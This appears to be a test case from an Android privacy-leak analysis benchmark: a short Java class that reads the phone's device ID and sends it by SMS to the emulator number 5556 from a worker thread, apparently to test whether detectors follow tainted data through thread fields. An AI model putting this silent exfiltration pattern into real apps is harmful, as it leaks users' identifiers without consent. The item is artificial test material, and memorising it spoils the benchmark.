package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** A thread with a field. */
public class Subclassed extends Case {
    static class T extends Thread { final String f; T(String f) { this.f = f; } @Override public void run() { SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        new T(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()).start();
    }
}
